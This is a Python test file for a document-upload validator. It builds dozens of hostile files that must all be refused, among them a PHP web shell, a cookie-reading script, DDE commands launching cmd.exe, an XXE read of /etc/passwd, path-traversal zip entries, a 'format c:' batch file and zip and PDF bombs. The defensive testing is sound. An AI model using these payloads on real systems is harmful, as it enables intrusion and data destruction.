"""Hostile files, built in code: none is ever accepted and then served as it came."""

import io
import zipfile

import pikepdf
import pytest

from core.errors import Refused
from files.models import StoredFile
from files.scanners.demo import EICAR
from tests.files import documents as d

HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def relation(kind: str, target: str = "http://mal.example/x", mode: str = ' TargetMode="External"') -> bytes:
    link = f'<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    part = d.RELATIONSHIPS % f'{link} Target="{target}"{mode}/>'
    return d.docx(("word/_rels/settings.xml.rels", part))


def lying_sizes() -> bytes:
    """A Word document whose directory says that a large part is empty."""
    content = bytearray(d.docx(("word/media/image1.png", b"\0" * 3_000_000)))
    at = content.find(b"PK\x01\x02", content.find(b"PK\x01\x02") + 1)
    while content[at + 46 : at + 62] != b"word/media/image":
        at = content.find(b"PK\x01\x02", at + 1)
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(content)


def duplicated_entries() -> bytes:
    output = io.BytesIO(d.docx())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(output, "a") as written:
        written.writestr("word/document.xml", "<autre/>")
    return output.getvalue()


def encrypted_entries() -> bytes:
    content = bytearray(d.docx())
    for signature, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + flag] |= 1
            at = content.find(signature, at + 1)
    return bytes(content)


def many_pages(document: pikepdf.Pdf) -> None:
    for _page in range(600):
        document.add_blank_page(page_size=(10, 10))


REFUSED = {
    # what is no document at all
    "nothing at all": ("vide.pdf", b""),
    "web page": ("page.html", HTML),
    "drawing with a script": ("logo.svg", SVG),
    "XML": ("facture.xml", b"<?xml version='1.0'?><a/>"),
    "program": ("setup.exe", EXE),
    "server script": ("c99.php", PHP),
    "batch": ("lisezmoi.bat", b"@echo off\r\nformat c:"),
    "shortcut": ("photo.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100),
    "plain archive": ("tout.zip", d.archive([("a.txt", "a")])),
    "old Word with macros": ("lettre.doc", OLE),
    "Word with macros, said so": ("lettre.docm", d.docx(("word/vbaProject.bin", OLE))),
    "animation": ("chat.gif", b"GIF89a\x01\0\x01\0\0\0\0;"),
    "no extension": ("livret", d.pdf()),
    "extension only": (".pdf", d.pdf()),
    "hidden double extension": ("photo.jpg.exe", EXE),
    "extension turned round by a hidden mark": ("photo\u202egpj.exe", EXE),
    "test virus named as a document": ("eicar.pdf", EICAR),
    "test virus named as a photo": ("eicar.jpg", EICAR),
    # content that is not what its name says
    "web page as PDF": ("facture.pdf", HTML),
    "web page as photo": ("photo.jpg", HTML),
    "drawing as PNG": ("photo.png", SVG),
    "program as photo": ("photo.jpeg", EXE),
    "program as PDF": ("facture.pdf", EXE),
    "PDF as photo": ("photo.jpg", d.pdf()),
    "photo as PDF": ("facture.pdf", d.jpeg()),
    "old Word as new Word": ("lettre.docx", OLE),
    "PDF after a web page": ("facture.pdf", HTML + d.pdf()),
    "PHP after a GIF header as JPEG": ("photo.jpg", b"GIF89a" + PHP),
    "text as HEIC": ("photo.heic", b"\0\0\0\x18ftypheic" + HTML),
    "RIFF that is no image": ("photo.webp", b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 60),
    "spreadsheet as text document": ("lettre.odt", d.odt(kind="spreadsheet")),
    "plain archive as Word": ("lettre.docx", d.archive([("a.txt", "a")])),
    "Java archive as Word": ("lettre.docx", d.archive([("META-INF/MANIFEST.MF", "x"), ("A.class", b"\xca\xfe")])),
    "Word as Excel": ("budget.xlsx", d.docx()),
    # images that hurt
    "giant image": ("affiche.png", d.png_bomb()),
    "truncated photo": ("photo.jpg", d.jpeg((800, 600))[:900]),
    "truncated PNG": ("photo.png", d.png((800, 600))[:200]),
    "JPEG header only": ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 50),
    # PDF that hurt
    "PDF with a password": (
        "facture.pdf",
        d.pdf(encryption=pikepdf.Encryption(owner="b", user="a", allow=pikepdf.Permissions())),
    ),
    "PDF without pages": ("facture.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"),
    "PDF header only": ("facture.pdf", b"%PDF-1.7\n" + b"x" * 500),
    "PDF of random bytes": ("facture.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20),
    "PDF of 601 pages": ("facture.pdf", d.pdf(many_pages)),
    "PDF bomb": ("facture.pdf", d.pdf_bomb()),
    # Office that hurts
    "zip bomb, one to a thousand": ("lettre.docx", d.zeros_as_zip_entry("word/media/image1.png", 60)),
    "zip bomb in an OpenDocument": ("lettre.odt", d.odt(("Pictures/a.png", b"\0" * 50_000_000))),
    "two thousand entries": ("lettre.docx", d.docx(*[(f"word/{n}.xml", "<a/>") for n in range(2_100)])),
    "sizes that lie": ("lettre.docx", lying_sizes()),
    "macros": ("lettre.docx", d.docx(("word/vbaProject.bin", OLE))),
    "macros in a workbook": ("budget.xlsx", d.xlsx(("xl/macrosheets/sheet1.xml", "<x/>"))),
    "Basic in an OpenDocument": ("lettre.odt", d.odt(("Basic/Standard/Module1.xml", "<x/>"))),
    "Python in an OpenDocument": ("lettre.odt", d.odt(("Scripts/python/a.py", "import os"))),
    "event in an OpenDocument": (
        "lettre.odt",
        d.odt(content='<a><office:scripts><script:event-listener script:event-name="dom:load"/></office:scripts></a>'),
    ),
    "button that runs a macro in an OpenDocument": (
        "lettre.odt",
        d.odt(content='<a><form:button xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></a>'),
    ),
    "entities behind the name of OpenOffice": (
        "lettre.odt",
        d.odt(content='<!DOCTYPE a PUBLIC "-//OpenOffice.org//DTD" "a.dtd" [<!ELEMENT a ANY>]><a/>'),
    ),
    "ActiveX": ("lettre.docx", d.docx(("word/activeX/activeX1.bin", OLE))),
    "embedded object": ("lettre.docx", d.docx(("word/embeddings/oleObject1.bin", OLE))),
    "program inside": ("lettre.docx", d.docx(("word/media/facture.exe", EXE))),
    "archive inside": ("lettre.docx", d.docx(("word/media/a.zip", b"PK\x03\x04"))),
    "remote template": ("lettre.docx", relation("attachedTemplate")),
    "remote object": ("lettre.docx", relation("oleObject")),
    "web page inside": ("lettre.docx", relation("aFChunk", "a.mht", "")),
    "DDE field": (
        "lettre.docx",
        d.docx(
            ("word/header1.xml", "<w:instrText xml:space='preserve'> DDEAUTO c:\\\\cmd.exe \"/k calc\"</w:instrText>")
        ),
    ),
    "DDE link of a workbook": (
        "budget.xlsx",
        d.xlsx(("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd"/>')),
    ),
    "DDE formula": ("budget.xlsx", d.xlsx(("xl/worksheets/sheet1.xml", "<c><f>cmd|'/c calc'!A0</f></c>"))),
    "DDE of an OpenDocument": ("lettre.odt", d.odt(content='<office:dde-source office:dde-application="cmd"/>')),
    "external entity": (
        "lettre.docx",
        d.docx(("word/footer1.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')),
    ),
    "billion laughs": ("lettre.odt", d.odt(content='<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>')),
    "entry that climbs": ("lettre.docx", d.docx(("../../../etc/cron.d/x", "x"))),
    "entry with an absolute path": ("lettre.docx", d.docx(("/etc/passwd", "x"))),
    "same entry twice": ("lettre.docx", duplicated_entries()),
    "encrypted Word": ("lettre.docx", encrypted_entries()),
    "program before the archive": ("lettre.docx", EXE + d.docx()),
    "web page after the archive": ("lettre.docx", d.docx() + HTML),
    "photo and archive at once": ("lettre.docx", d.jpeg() + d.docx()),
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_hostile_file_is_refused_with_a_sentence_and_leaves_nothing(case, keep):
    name, content = REFUSED[case]
    with pytest.raises(Refused) as refusal:
        keep(content, name)
    sentence = refusal.value.sentence
    assert sentence.endswith(".")
    assert "%" not in sentence
    assert "\u202e" not in sentence
    assert not StoredFile.objects.exists()


def test_the_corpus_is_large_enough():
    assert len(REFUSED) >= 60
